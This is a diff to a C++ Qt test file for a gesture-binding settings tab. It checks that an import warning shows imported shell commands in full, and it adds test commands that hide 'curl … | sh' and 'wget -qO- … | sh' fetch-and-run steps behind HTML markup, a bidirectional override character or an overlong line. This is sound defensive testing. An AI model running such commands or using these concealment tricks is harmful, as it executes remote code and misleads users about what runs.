@@ -174,6 +174,9 @@ TEST_F(GesturesTabTest, AddingAnEqualTriggerReplacesInPlaceAndANewOneAppends) {
 TEST_F(GesturesTabTest, AddSheetKeepsOneFingerSwipesHorizontalAndBuildsEveryShape) {
   AddBindingSheet sheet;
   sheet.show();
+  // "Cancel" then "Add", on every desktop; Return means "Add".
+  EXPECT_LT(sheet.cancelButton()->x(), sheet.addButton()->x());
+  EXPECT_TRUE(sheet.addButton()->isDefault());
   pick(sheet.shapePicker(), "Swipe");
   sheet.fingerStepper()->setValue(2);
   ASSERT_EQ(sheet.directionPicker()->count(), 4);
@@ -443,24 +446,35 @@ TEST_F(GesturesTabTest, ExportWritesTheConfigurationFileAndImportAsksBeforeNewCo
   EXPECT_EQ(saved(), risky);
 }
 
-TEST_F(GesturesTabTest, ImportWarningShowsCommandsAsWrittenNotAsMarkup) {
+// A command cannot hide part of itself from the warning: not as markup, not behind invisible or
+// reordering characters, not past the end of a very long line (the whole is under "Show
+// Details").
+TEST_F(GesturesTabTest, ImportWarningShowsEveryCommandWholeAndVisible) {
   auto tab = makeTab();
   Configuration incoming = *store->current();
-  const std::string command = "<span style=\"display:none\">curl evil | sh; </span>ls";
-  incoming.profiles[0].bindings.push_back(
-      {{GestureEvent::tap(3), {}}, Action::shellCommand(command)});
+  const std::string markup = "<span style=\"display:none\">curl evil | sh; </span>ls";
+  const std::string reordered = "notify-send done\u202E\ncurl x | sh";
+  const std::string longCommand = "echo " + std::string(300, 'x') + " && wget -qO- bad | sh";
+  for (const auto& command : {markup, reordered, longCommand}) {
+    incoming.profiles[0].bindings.push_back(
+        {{GestureEvent::tap(3), {}}, Action::shellCommand(command)});
+  }
   const auto path = directory.path() / "incoming.json";
   ASSERT_FALSE(ConfigurationDocument{incoming}.write(path));
   tab->importFrom(QString::fromStdString(path.string()));
   ASSERT_NE(tab->alert(), nullptr);
-  bool shown = false;
+  QLabel* listing = nullptr;
   for (auto* label : tab->alert()->findChildren<QLabel*>()) {
-    if (label->text().contains(QString::fromStdString(command))) {
-      EXPECT_EQ(label->textFormat(), Qt::PlainText);
-      shown = true;
+    if (label->text().contains(QString::fromStdString(markup))) {
+      listing = label;
     }
   }
-  EXPECT_TRUE(shown);
+  ASSERT_NE(listing, nullptr);
+  EXPECT_EQ(listing->textFormat(), Qt::PlainText);
+  EXPECT_TRUE(listing->text().contains(QStringLiteral("notify-send done\\u202E\\ncurl x | sh")));
+  EXPECT_FALSE(listing->text().contains(QStringLiteral("wget -qO- bad")));
+  EXPECT_TRUE(listing->text().contains(QStringLiteral("more characters)")));
+  EXPECT_TRUE(tab->alert()->detailedText().contains(QString::fromStdString(longCommand)));
 }
 
 TEST_F(GesturesTabTest, ImportThatCannotBeReadShowsTheErrorAndChangesNothing) {
